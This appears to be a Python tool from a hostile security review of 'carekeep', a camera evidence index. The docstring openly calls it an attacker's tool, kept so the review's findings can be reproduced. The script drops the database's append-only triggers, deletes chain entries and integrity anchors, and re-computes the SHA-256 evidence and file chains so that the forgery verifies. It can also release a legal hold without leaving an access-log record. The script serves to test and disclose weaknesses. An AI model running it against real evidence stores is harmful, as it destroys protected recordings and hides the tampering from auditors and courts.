#!/usr/bin/env python3
"""Hostile review of issue 15 (evidence): what an operator without the signing key can do to
the index with nothing but sqlite3 and a SHA-256. Not a test of carekeep: an attacker's tool,
kept so the findings in the review report can be reproduced.

  forge.py DB rechain CAMERA [--keep-entries N]
      Drops the append-only triggers, removes CAMERA's chain entries after N (default: keep
      all), then re-extends the chain so that every non-open segment row equals its latest
      entry (appending closed/deleting/deleted steps as needed) and recomputes the file chain
      (segment.chain_sha256). Mirrors index/chain.cpp byte for byte.
  forge.py DB drop-anchors-after CAMERA SEQ
      Removes CAMERA's anchors numbered > SEQ (trigger dropped first).
  forge.py DB drop-triggers
  forge.py DB release-hold HOLD_ID TIME_US UID USER
      Releases a hold as `carekeep hold release` would, without its access-log row: sets the
      row's released columns and appends its 'release' entry to the box chain.
"""
import hashlib
import sqlite3
import struct
import sys

TRIGGERS = ["chain_entry_no_update", "chain_entry_no_delete", "segment_no_delete", "hold_no_delete",
            "integrity_anchor_no_update", "integrity_anchor_no_delete"]


def put_int(v):
    return struct.pack(">Q", v & 0xFFFFFFFFFFFFFFFF)


def put_text(t):
    b = t.encode()
    return put_int(len(b)) + b


def esc(v):
    return str(v).replace("\\", "\\\\").replace("\n", "\\n")


def segment_record(r):
    out = ""

    def line(k, v):
        nonlocal out
        if v is None:
            return
        if isinstance(v, (bytes, bytearray)):
            v = v.hex()
        out += f"{k}={esc(v)}\n"

    for k, col in [("camera", "camera_id"), ("run", "run_id"), ("seq", "seq"), ("path", "path"),
                   ("start_us", "start_us"), ("duration_us", "duration_us"), ("end_us", "end_us"),
                   ("size_bytes", "size_bytes"), ("frames", "frames"), ("keyframes", "keyframes"),
                   ("video_codec", "video_codec"), ("width", "width"), ("height", "height"),
                   ("audio_codec", "audio_codec"), ("sha256", "sha256"), ("chain_sha256", "chain_sha256"),
                   ("state", "state"), ("state_detail", "state_detail"),
                   ("protect_until_us", "protect_until_us"), ("created_us", "created_us"),
                   ("closed_us", "closed_us"), ("deleted_us", "deleted_us")]:
        line(k, r[col])
    if "suspect_clock" in r.keys() and r["suspect_clock"]:
        line("suspect_clock", 1)  # chained since evfix (index/chain.cpp): only when set
    return out


def entry_hash(prev, chain, seq, time_us, kind, segment_id, hold_id, record):
    b = bytes(prev) + put_text(chain) + put_int(seq) + put_int(time_us) + put_text(kind)
    b += put_int(segment_id or 0) + put_int(hold_id or 0) + put_text(record)
    return hashlib.sha256(b).digest()


def hold_record(r):
    out = ""

    def line(k, v):
        nonlocal out
        if v is not None:
            out += f"{k}={esc(v)}\n"

    for k, col in [("camera", "camera_id"), ("zone", "zone_id"), ("from_us", "from_us"), ("to_us", "to_us"),
                   ("reason", "reason"), ("created_us", "created_us"), ("created_uid", "created_uid"),
                   ("created_user", "created_user"), ("released_us", "released_us"),
                   ("released_uid", "released_uid"), ("released_user", "released_user"),
                   ("case_number", "case_number")]:
        line(k, r[col])
    if r["placed_as"] == "inspector":
        line("placed_as", "inspector")
    return out


def release_hold(db, hold_id, time_us, uid, user):
    db.execute("update hold set released_us = ?, released_uid = ?, released_user = ? where id = ?",
               (time_us, uid, user, hold_id))
    r = db.execute("select * from hold where id = ?", (hold_id,)).fetchone()
    rec = hold_record(r)
    tip = db.execute("select seq, hash from chain_entry where chain = '' order by seq desc limit 1").fetchone()
    seq, prev = (tip["seq"] + 1, bytes(tip["hash"])) if tip else (1, bytes(32))
    h = entry_hash(prev, "", seq, time_us, "release", None, hold_id, rec)
    db.execute("insert into chain_entry (chain, seq, time_us, kind, segment_id, hold_id, record, prev_hash, hash)"
               " values ('', ?, ?, 'release', null, ?, ?, ?, ?)", (seq, time_us, hold_id, rec, prev, h))
    db.commit()
    print(f"hold {hold_id} released in the box chain, entry {seq}")


def drop_triggers(db):
    for t in TRIGGERS:
        db.execute(f"drop trigger if exists {t}")


def rechain(db, camera, keep):
    drop_triggers(db)
    if keep is not None:
        db.execute("delete from chain_entry where chain = ? and seq > ?", (camera, keep))
    # the file chain, in id order
    prev = bytes(32)
    for r in db.execute("select id, sha256, chain_sha256 from segment where camera_id = ? order by id",
                        (camera,)).fetchall():
        if r["chain_sha256"] is None:
            continue
        link = hashlib.sha256(prev + bytes(r["sha256"] or bytes(32))).digest()
        if link != bytes(r["chain_sha256"]):
            db.execute("update segment set chain_sha256 = ? where id = ?", (link, r["id"]))
        prev = link
    # the evidence chain
    tip = db.execute("select seq, hash from chain_entry where chain = ? order by seq desc limit 1",
                     (camera,)).fetchone()
    seq, prev = (tip["seq"], bytes(tip["hash"])) if tip else (0, bytes(32))
    latest = {}
    for e in db.execute("select segment_id, record from chain_entry where chain = ? order by seq", (camera,)):
        latest[e["segment_id"]] = e["record"]
    appended = 0

    def append(kind, row_id, record, time_us):
        nonlocal seq, prev, appended
        seq += 1
        h = entry_hash(prev, camera, seq, time_us, kind, row_id, None, record)
        db.execute("insert into chain_entry (chain, seq, time_us, kind, segment_id, hold_id, record, prev_hash, hash)"
                   " values (?, ?, ?, ?, ?, null, ?, ?, ?)", (camera, seq, time_us, kind, row_id, record, prev, h))
        prev = h
        appended += 1

    for r in db.execute("select * from segment where camera_id = ? and state != 'open' order by id",
                        (camera,)).fetchall():
        rec = segment_record(r)
        if latest.get(r["id"]) == rec:
            continue
        t = r["closed_us"] or r["created_us"]
        if r["state"] in ("deleting", "deleted"):
            d = dict(r)
            if r["id"] not in latest:
                d.update(state="closed", state_detail="", deleted_us=None)
                append("closed", r["id"], segment_record(d), t)
            d = dict(r)
            d.update(state="deleting", deleted_us=None)
            append("deleting", r["id"], segment_record(d), r["deleted_us"] or t)
            if r["state"] == "deleted":
                append("deleted", r["id"], rec, r["deleted_us"] or t)
        else:
            append(r["state"], r["id"], rec, t)
    db.commit()
    print(f"rechain {camera}: file chain recomputed, {appended} entries appended, tip seq {seq}")


def main():
    db = sqlite3.connect(sys.argv[1])
    db.row_factory = sqlite3.Row
    cmd = sys.argv[2]
    if cmd == "rechain":
        keep = int(sys.argv[5]) if len(sys.argv) > 5 and sys.argv[4] == "--keep-entries" else None
        rechain(db, sys.argv[3], keep)
    elif cmd == "drop-anchors-after":
        drop_triggers(db)
        n = db.execute("delete from integrity_anchor where camera_id = ? and seq > ?",
                       (sys.argv[3], int(sys.argv[4]))).rowcount
        db.commit()
        print(f"removed {n} anchors of {sys.argv[3]}")
    elif cmd == "release-hold":
        release_hold(db, int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6])
    elif cmd == "drop-triggers":
        drop_triggers(db)
        db.commit()
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
